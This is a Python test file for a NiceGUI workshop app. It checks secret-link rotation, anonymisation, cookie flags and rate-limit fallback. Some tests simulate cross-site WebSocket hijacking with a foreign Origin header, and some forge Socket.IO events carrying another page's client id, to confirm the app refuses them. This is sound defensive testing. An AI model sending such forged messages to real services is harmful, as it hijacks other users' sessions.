    from sqlmodel import select

    from workshop.models import Breakout, Participant
    rt = runtime()
    links = await create_from_template(rt.db, template=load_template('cluster-workshop'))
    await participants.join(rt.db, code=links.join_code, name='Anna Amsel', organisation='Amt')
    await user.open(f'/lead/{links.lead_secret}')
    await user.should_see(marker='privacy-controls', retries=20)

    await user.should_see(marker='rotate-W1.1', retries=20)
    user.find(marker='rotate-W1.1').click()
    await user.should_see('Neuer Moderationslink für W 1.1', retries=20)
    async with rt.db.session() as s:
        new_secret = (await s.get(Breakout, links.breakouts[0].breakout_id)).moderator_secret
    assert new_secret != links.breakouts[0].moderator_secret
    await user.should_see(f'/m/{new_secret}')

    user.find(marker='anonymise').click()
    user.find(marker='anonymise-confirm').click()
    await user.should_see('Anonymisiert.', retries=20)
    async with rt.db.session() as s:
        assert (await s.exec(select(Participant.name))).all() == [None]

    user.find(marker='rotate-lead').click()

    async def rotated() -> bool:
        async with rt.db.session() as s:
            return (await s.get(Workshop, links.workshop_id)).lead_secret != links.lead_secret
    await until(rotated, 2, what='a new lead link')
    await user.should_see(marker='privacy-controls', retries=20)  # on the new link
    await user.open(f'/lead/{links.lead_secret}')
    await user.should_see('Moderationslink ist nicht (mehr) gültig')


async def test_socket_connections_from_a_foreign_page_are_refused(user: User, caplog):
    """Cross-site WebSocket hijacking: the Socket.IO handshake checks the Origin header."""
    path = '/_nicegui_ws/socket.io/?EIO=4&transport=polling'
    foreign = await user.http_client.get(path, headers={'Origin': 'https://evil.example.com'})
    assert foreign.status_code == 400 and 'not an accepted origin' in foreign.text
    own = await user.http_client.get(path, headers={'Origin': 'http://workshop.test'})
    assert own.status_code == 200 and '"sid"' in own.text
    same = await user.http_client.get(path, headers={'Origin': 'http://test'})  # the request's own host
    assert same.status_code == 200
    # engineio logs the refusal as an error (a sign of an attack); here it is expected
    records = caplog.get_records('call')
    records[:] = [r for r in records if 'not an accepted origin' not in r.getMessage()]


@pytest.mark.timeout(120)
@pytest.mark.parametrize('public_url, secure', [('https://ws.example.org', True), (None, False)])
def test_the_running_server_sets_its_session_cookie_as_configured(tmp_path, public_url, secure):
    """The real server (not only the helper): behind HTTPS the session cookie is Secure, always HttpOnly and Lax."""
    from .servers import app_process, child_env
    args = ['serve', '--db', f'sqlite:///{tmp_path}/w.sqlite3'] + (['--public-url', public_url] if public_url else [])
    with app_process(args, env=child_env(tmp_path), cwd=tmp_path, log=tmp_path / 'server.log') as app:
        cookie = app.first_answer.headers.get('set-cookie', '').lower()
        assert cookie.startswith('session=') and 'httponly' in cookie and 'samesite=lax' in cookie, cookie
        assert ('; secure' in cookie) is secure, cookie


async def test_no_loading_bar_follows_background_requests(user: User):
    """Quasar's loading bar is an unnamed progress bar; with Socket.IO's polling fallback it would run
    all the time. The app makes no XMLHttpRequests of its own, so the bar follows none."""
    page = await user.http_client.get('/')
    assert re.search(r'"loadingBar":\s*\{[^}]*"skipHijack":\s*true', page.text), 'loading bar still hijacks XHR'


# --- Socket.IO messages act only on the sending socket's own page ---------------------------------

def _phases_of(server, moderator_path: str) -> set[str]:
    """The phases the room's questions were set to (none: all still collecting)."""
    return {phase for (phase,) in server.rows(
        'SELECT phase FROM breakout_question WHERE breakout_id = (SELECT id FROM breakout WHERE moderator_secret = ?)',
        moderator_path.rsplit('/', 1)[1])}


@pytest.mark.timeout(180)
async def test_a_phone_cannot_send_events_to_a_moderator_page(tmp_path):
    """NiceGUI finds the page of an event by the client id inside the message: a phone that learnt a
    moderator page's client id must still not switch that room's phase (a real server, sockets as
    phones and moderators open them)."""
    import asyncio
    import sys
    from pathlib import Path
    bench = str(Path(__file__).resolve().parent.parent / 'bench')
    if bench not in sys.path:
        sys.path.insert(0, bench)
    import loadgen
    from soak import LiveServer

    server = LiveServer(tmp_path)
    server.start()
    ctx = loadgen.Ctx(server.base, server.links['code'], loadgen.now())
    await ctx.open()
    try:
        phone = loadgen.Screen(ctx, 'phone', 'W1.1')
        await phone.join('W1.1')
        moderator = loadgen.Screen(ctx, 'moderator', 'W1.1')
        path = server.links['moderators']['W1.1']
        await moderator.open_screen(path)
        assert moderator.toggle is not None, 'no phase toggle on the moderator page'
        eid, listener, vote = moderator.toggle
        assert 'vote' not in _phases_of(server, path)

        forged = {'id': int(eid), 'client_id': moderator.client_id, 'listener_id': listener['listener_id'],
                  'args': loadgen.stringify_args([vote], listener.get('args'))}
        await phone.sio.emit('event', forged)
        for name, msg in (('javascript_response', {'request_id': 'x', 'result': None}),
                          ('ack', {'next_message_id': 10**9}), ('log', {'level': 'error', 'message': 'forged'})):
            await phone.sio.emit(name, {'client_id': moderator.client_id, **msg})
        await phone.sio.emit('event', 'not an object')  # nonsense is dropped quietly too
        # the moderator's browser clicks a listener the page no longer has: one warning line, no traceback
        await moderator.sio.emit('event', {**forged, 'listener_id': 'gone'})
        await asyncio.sleep(1.5)  # on purpose: time for the forged messages to act, were they accepted
        assert 'vote' not in _phases_of(server, path)
        assert phone.connected and moderator.connected

        await moderator.emit_event((eid, listener), [vote])  # the moderator's own socket still works
        await until(lambda: 'vote' in _phases_of(server, path), 5, what="the moderator's own vote switch")
        await phone.close()
        await moderator.close()
    finally:
        await ctx.close()
        server.stop()
    log = server.log_text()
    assert 'Traceback' not in log and 'forged' not in log, log[-3000:]
    assert log.count('the page no longer listens to it there') == 1, log[-3000:]


def test_socket_messages_are_checked_against_the_sending_socket(monkeypatch):
    """Each handler that takes a client id runs only for a socket that handshook for that client."""
    from types import SimpleNamespace

    from nicegui.client import Client
    calls = []

    class _Sio:
        handlers = {'/': {name: (lambda name: lambda sid, msg: calls.append((name, sid)))(name)  # noqa: B023 - bound
                          for name in security.CLIENT_MESSAGES}}
    sio = _Sio()
    security.guard_client_messages(sio)
    guarded = dict(sio.handlers['/'])
    security.guard_client_messages(sio)  # idempotent
    assert sio.handlers['/'] == guarded
    monkeypatch.setitem(Client.instances, 'page-a', SimpleNamespace(_socket_to_document_id={'sock-a': 'doc'}))
    for name in security.CLIENT_MESSAGES:
        handler = sio.handlers['/'][name]
        assert handler('sock-a', {'client_id': 'page-a'}) is None
        for sid, msg in (('sock-b', {'client_id': 'page-a'}), ('sock-a', {'client_id': 'nope'}),
                         ('sock-a', {'client_id': ['page-a']}), ('sock-a', 'page-a'), ('sock-a', None)):
            handler(sid, msg)
    assert calls == [(name, 'sock-a') for name in security.CLIENT_MESSAGES]


# What the guard relies on in NiceGUI: the handlers that take a client id, and how the handshake records a
# page's sockets. An upgrade that changes any of these fails here; check security.socket_owns_client, then
# update the fingerprints.
NICEGUI_SOCKET_SOURCES = {  # NiceGUI 3.18
    '_on_handshake': 'ebde10092987736d',
    '_on_disconnect': 'dccb581e322a2b7f',
    '_on_event': 'ccc27fcc74c253da',
    '_on_javascript_response': 'a8c59efd8b850e92',
    '_on_ack': 'd7b04b6ebf6ff00b',
    '_on_log': '5d8e915e7791d899',
    'Client.accept_handshake': '0b8d2de025d646a0',
    'Client.handle_handshake': '12cd17eb0269ea29',
    'Client.handle_disconnect': 'b015c485f51fe8de',
}


def _nicegui_socket_fingerprints() -> dict[str, str]:
    import hashlib

    from nicegui import nicegui as nicegui_module
    from nicegui.client import Client
    found = {}
    for name in NICEGUI_SOCKET_SOURCES:
        owner, _, attribute = name.rpartition('.')
        func = getattr(Client if owner else nicegui_module, attribute)
        found[name] = hashlib.sha256(inspect.getsource(func).encode()).hexdigest()[:16]
    return found


async def test_the_app_guards_every_nicegui_socket_handler_that_takes_a_client_id(user: User):
    from nicegui import core
    handlers = core.sio.handlers['/']
    assert set(handlers) == {'connect', 'handshake', 'disconnect', *security.CLIENT_MESSAGES}, \
        'NiceGUI handles other Socket.IO messages now: do they name a client? guard them (security.CLIENT_MESSAGES)'
    assert all(getattr(handlers[name], 'guarded', False) for name in security.CLIENT_MESSAGES)
    assert _nicegui_socket_fingerprints() == NICEGUI_SOCKET_SOURCES, \
        'NiceGUI\'s socket handling changed: check security.socket_owns_client against it, then the fingerprints'


async def test_joining_goes_on_when_the_join_limits_cannot_be_counted(db, cluster, caplog):
    """Redis away or hanging: phones still join (the bus, too, goes on without Redis), one warning a minute."""
    import asyncio
    import time

    from workshop.services.rate_storage import LocalStorage

    class Hanging(LocalStorage):
        async def get_moving_window(self, key, limit, expiry):
            await asyncio.sleep(30)  # on purpose: a storage that hangs

        async def acquire_entry(self, key, limit, expiry, amount=1):
            await asyncio.sleep(30)  # on purpose: a storage that hangs

    class Broken(LocalStorage):
        async def get_moving_window(self, key, limit, expiry):
            raise ConnectionError('Redis is away')

        async def acquire_entry(self, key, limit, expiry, amount=1):
            raise ConnectionError('Redis is away')

    for storage in (Hanging(), Broken()):
        throttle = JoinThrottle(storage)
        started = time.monotonic()
        assert await _try_code(db, 'ZZZZZ4', '203.0.113.7', throttle) == 'no such code'
        await participants.join(db, code=cluster.join_code, address='203.0.113.7', throttle=throttle)
        assert time.monotonic() - started < 3
    warnings = [r for r in caplog.records if 'join limits not checked' in r.getMessage()]
    assert len(warnings) == 2  # one per throttle, not one per request
